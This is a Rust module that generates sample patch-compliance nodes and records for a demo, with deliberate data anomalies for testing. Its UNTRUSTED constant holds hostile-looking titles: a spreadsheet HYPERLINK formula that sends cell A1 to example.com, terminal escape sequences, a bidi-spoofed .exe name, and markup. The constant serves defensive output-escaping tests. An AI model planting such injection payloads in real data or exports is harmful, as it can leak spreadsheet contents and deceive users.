//! The sample nodes, from `nodes.csv` and `elsewhere.csv`, with their patch rows and records.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::sync::OnceLock;

use fastrand::Rng;
use serde::{Deserialize, Deserializer};

use crate::demo::catalogue::{CatalogueEntry, Family, Os};
use crate::demo::hash;
use crate::demo::wire::{
    BaselineKind, InstancePatchState, PatchComplianceData, StateCounts, is_security, reported_cves,
    state,
};
use crate::demo::{ACCOUNT, NOW_SECONDS, REGION};

const HOUR: f64 = 3_600.0;

/// An intended anomaly of a node.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum Quirk {
    NeverScanned,
    /// `UnreportedNotApplicableCount` is -1.
    UnreportedUnknown,
    /// Written before several counters existed.
    OldRecord,
    NoInstalledCount,
    /// `OperationEndTime` is 0: the run did not end.
    InterruptedZero,
    /// `OperationEndTime` is in the year 1: the run did not end.
    InterruptedYearOne,
    UnknownState,
    NoStateKey,
    NoOperation,
    UntrustedTitles,
    OverrideList,
    /// An empty page with a token.
    EmptyPage,
    /// The last page has `"NextToken":""`.
    BlankToken,
    /// A short page with a token.
    ShortPage,
}

/// A line of `nodes.csv`, or of `elsewhere.csv`, which has account and region.
#[derive(Deserialize)]
struct NodeLine {
    #[serde(default = "account")]
    account: Cow<'static, str>,
    #[serde(default = "region")]
    region: Cow<'static, str>,
    id: String,
    os: Os,
    group: String,
    baseline: String,
    operation: String,
    reboot: String,
    hours_ago: Option<u32>,
    installed: usize,
    other: usize,
    pending: usize,
    rejected: usize,
    missing: usize,
    failed: usize,
    available: usize,
    not_applicable: usize,
    #[serde(deserialize_with = "blank_is_none")]
    odd: Option<Quirk>,
}

fn account() -> Cow<'static, str> {
    Cow::Borrowed(ACCOUNT)
}

fn region() -> Cow<'static, str> {
    Cow::Borrowed(REGION)
}

fn blank_is_none<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<Quirk>, D::Error> {
    let word = Cow::<str>::deserialize(deserializer)?;
    if word.is_empty() {
        return Ok(None);
    }
    Quirk::deserialize(serde::de::value::StrDeserializer::new(&word)).map(Some)
}

/// One node of the sample fleet.
pub(super) struct SampleNode {
    line: NodeLine,
    /// Made on request: most runs need a few nodes only.
    rows: OnceLock<Vec<PatchComplianceData>>,
}

/// The nodes of an account and region, in the order of the file.
pub(super) fn nodes(account: &str, region: &str) -> Vec<SampleNode> {
    let file = if (account, region) == (ACCOUNT, REGION) {
        include_str!("nodes.csv")
    } else {
        include_str!("elsewhere.csv")
    };
    csv::Reader::from_reader(file.as_bytes())
        .deserialize()
        .map(|line| line.expect("the nodes are part of the program and read by its tests"))
        .filter(|line: &NodeLine| line.account == account && line.region == region)
        .map(|line| SampleNode {
            line,
            rows: OnceLock::new(),
        })
        .collect()
}

impl SampleNode {
    pub(super) fn id(&self) -> &str {
        &self.line.id
    }

    #[cfg(test)]
    pub(super) fn os(&self) -> Os {
        self.line.os
    }

    pub(super) fn group(&self) -> &str {
        &self.line.group
    }

    pub(super) fn quirk(&self) -> Option<Quirk> {
        self.line.odd
    }

    /// The patch rows, in the order of the service.
    pub(super) fn rows(&self) -> &[PatchComplianceData] {
        self.rows.get_or_init(|| {
            if self.is_scanned() {
                self.build_rows()
            } else {
                Vec::new()
            }
        })
    }

    /// The state record; `None` if the node was never scanned.
    pub(super) fn record(&self) -> Option<InstancePatchState> {
        if !self.is_scanned() {
            return None;
        }
        let (start, end) = self.times();
        let line = &self.line;
        let baseline = if line.baseline.is_empty() {
            BaselineKind::Managed
        } else {
            BaselineKind::Custom
        };
        let baseline_id = if line.baseline.is_empty() {
            line.os.baseline()
        } else {
            &line.baseline
        };
        let mut record = InstancePatchState {
            instance_id: line.id.clone(),
            patch_group: line.group.clone(),
            baseline_id: baseline_id.to_owned(),
            snapshot_id: Some(hash::uuid(hash::text(&line.id))),
            operation_start_time: start,
            operation_end_time: end,
            operation: Some(line.operation.clone()),
            reboot_option: Some(line.reboot.clone()).filter(|option| !option.is_empty()),
            ..InstancePatchState::default()
        };
        let mut counts = StateCounts::of(self.rows().iter().map(Cow::Borrowed), baseline);
        if !line.os.is_windows() {
            // Linux and macOS count what does not apply and list no rows of it.
            counts.not_applicable = i64::try_from(line.not_applicable).unwrap_or(0);
        }
        record.set_counts(&counts, line.os.is_windows());
        if line.reboot == "NoReboot" {
            let since = if line.operation == "Install" {
                0.0
            } else {
                74.0 * HOUR
            };
            record.last_no_reboot_install_operation_time = Some(end - since);
        }
        self.apply_quirk(&mut record);
        Some(record)
    }

    fn is_scanned(&self) -> bool {
        self.line.hours_ago.is_some()
    }

    /// Start and end of the last operation; most have fractions of a second.
    fn times(&self) -> (f64, f64) {
        let mut rng = Rng::with_seed(hash::join(hash::text(&self.line.id), 1));
        let hours = f64::from(self.line.hours_ago.unwrap_or(0));
        let jitter = f64::from(rng.u32(0..3_000));
        let fraction = if rng.u8(0..4) == 0 {
            0.0
        } else {
            f64::from(rng.u32(1..8)) / 8.0
        };
        let end = f64::from(NOW_SECONDS) - hours * HOUR - jitter + fraction;
        (end - f64::from(rng.u32(40..700)), end)
    }

    /// Applies the anomaly of the node to its record.
    fn apply_quirk(&self, record: &mut InstancePatchState) {
        match self.line.odd {
            Some(Quirk::UnreportedUnknown) => record.unreported_not_applicable_count = Some(-1),
            Some(Quirk::OldRecord) => {
                record.installed_pending_reboot_count = None;
                record.installed_rejected_count = None;
                record.unreported_not_applicable_count = None;
                record.critical_non_compliant_count = None;
                record.security_non_compliant_count = None;
                record.other_non_compliant_count = None;
                record.snapshot_id = None;
            }
            Some(Quirk::NoInstalledCount) => {
                record.installed_count = None;
                record.available_security_update_count = None;
            }
            Some(Quirk::InterruptedZero) => record.operation_end_time = 0.0,
            Some(Quirk::InterruptedYearOne) => record.operation_end_time = -62_135_596_800.0,
            Some(Quirk::NoOperation) => record.operation = None,
            Some(Quirk::OverrideList) => {
                record.install_override_list =
                    Some("https://s3.eu-west-1.amazonaws.com/patching-overrides/2026-11.yaml");
            }
            _ => {}
        }
    }

    fn build_rows(&self) -> Vec<PatchComplianceData> {
        let line = &self.line;
        let mut rng = Rng::with_seed(hash::text(&line.id));
        let mut rows = self.catalogue_rows(&mut rng);
        let first = if line.os.is_windows() {
            rng.usize(0..900)
        } else {
            0
        };
        for nth in 0..line.other {
            let time = self.installed_at(&mut rng);
            rows.push(PatchComplianceData::without_details(
                line.os.generated_id(first + nth),
                state::OTHER,
                time,
            ));
        }
        if line.os.is_windows() {
            for nth in 0..line.not_applicable {
                rows.push(PatchComplianceData::without_details(
                    line.os.generated_id(first + line.other + nth),
                    state::NOT_APPLICABLE,
                    0.0,
                ));
            }
        }
        self.add_quirk_rows(&mut rows);
        rows.sort_by(|left, right| (&left.kb_id, &left.title).cmp(&(&right.kb_id, &right.title)));
        rows
    }

    /// The rows of patches of the catalogue; missing ones are among the newest.
    fn catalogue_rows(&self, rng: &mut Rng) -> Vec<PatchComplianceData> {
        let line = &self.line;
        let mut pool: Vec<&'static CatalogueEntry> = line.os.entries().iter().collect();
        let due = line.pending + line.rejected + line.missing + line.failed + line.available;
        let newest = pool.len().min(due + due / 2 + 2);
        rng.shuffle(&mut pool[..newest]);
        let mut rows = Vec::with_capacity(pool.len());
        for (state, count, security_only) in [
            (state::FAILED, line.failed, true),
            (state::AVAILABLE, line.available, true),
            (state::PENDING, line.pending, true),
            (state::REJECTED, line.rejected, false),
            (state::MISSING, line.missing, false),
            (state::INSTALLED, line.installed, false),
        ] {
            let mut seen = BTreeSet::new();
            for _ in 0..count {
                let fits =
                    |entry: &CatalogueEntry| !security_only || is_security(&entry.classification);
                // One of each severity first.
                let varied = pool
                    .iter()
                    .take(newest)
                    .position(|entry| fits(entry) && seen.insert(entry.severity.as_str()));
                let Some(place) = varied.or_else(|| pool.iter().position(|entry| fits(entry)))
                else {
                    break;
                };
                let entry = pool.remove(place);
                rows.push(self.row(entry, state, rng));
            }
        }
        rows
    }

    fn row(
        &self,
        entry: &'static CatalogueEntry,
        state: &'static str,
        rng: &mut Rng,
    ) -> PatchComplianceData {
        let installed_time = match state {
            state::INSTALLED | state::REJECTED => self.installed_at(rng),
            state::PENDING => self.times().1.floor() - f64::from(rng.u32(5..90)),
            _ => 0.0,
        };
        PatchComplianceData {
            title: Cow::Borrowed(&entry.title),
            kb_id: Cow::Borrowed(&entry.kb_id),
            classification: &entry.classification,
            severity: &entry.severity,
            state: Some(state),
            installed_time,
            cve_ids: reported_cves(&entry.cves, state),
        }
    }

    /// Time of an installation: some days before the scan, whole days on Windows, sometimes unknown.
    fn installed_at(&self, rng: &mut Rng) -> f64 {
        const DAY: u32 = 86_400;
        if rng.u8(0..8) == 0 {
            return 0.0;
        }
        let scan = NOW_SECONDS - self.line.hours_ago.unwrap_or(0) * 3_600;
        let time = scan - DAY * rng.u32(2..420) - rng.u32(0..DAY);
        let whole = if self.line.os.is_windows() { DAY } else { 1 };
        f64::from(time - time % whole)
    }

    fn add_quirk_rows(&self, rows: &mut Vec<PatchComplianceData>) {
        match self.line.odd {
            Some(Quirk::UnknownState) => rows.push(PatchComplianceData {
                state: Some("InstalledSuperseded"),
                ..row_with_title(
                    "linux-headers-aws.amd64",
                    "linux-headers-aws.amd64:6.8.0.1040.42~22.04.1",
                    self.line.os,
                )
            }),
            Some(Quirk::NoStateKey) => rows.push(PatchComplianceData {
                state: None,
                ..row_with_title(
                    "libgnutls-dane0.amd64",
                    "libgnutls-dane0.amd64:3.7.1-5+deb11u8",
                    self.line.os,
                )
            }),
            Some(Quirk::UntrustedTitles) => {
                rows.extend(UNTRUSTED.map(|(kb, title)| row_with_title(kb, title, self.line.os)));
            }
            _ => {}
        }
    }
}

/// Titles are untrusted text: formulas, control characters and markup.
const UNTRUSTED: [(&str, &str); 8] = [
    (
        "aaa-escape",
        "\u{1b}[31mred alert\u{1b}[0m\u{1b}]0;owned\u{7}.1.0",
    ),
    ("aab-bidi", "invoice\u{202e}fdp.exe\u{202c}.2.1"),
    (
        "aac-formula",
        "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
    ),
    ("aad-wide", "セキュリティ更新プログラム 2026年11月.26.1"),
    ("aae-comma", "fonts, dictionaries, and other things.3.4"),
    ("aaf-quote", "the \"quoted\" package.0.9"),
    ("aag-newline", "first line\nsecond line.1.1"),
    ("aah-markup", "<b>bold</b> | a pipe & an ampersand.5.0"),
];

fn row_with_title(kb: &'static str, title: &'static str, os: Os) -> PatchComplianceData {
    let (classification, severity) = match os.family() {
        Family::MacOs => ("brew", ""),
        _ => ("Security", "optional"),
    };
    PatchComplianceData {
        title: Cow::Borrowed(title),
        kb_id: Cow::Borrowed(kb),
        classification,
        severity,
        state: Some(state::INSTALLED),
        installed_time: 0.0,
        cve_ids: None,
    }
}

#[cfg(test)]
mod tests;
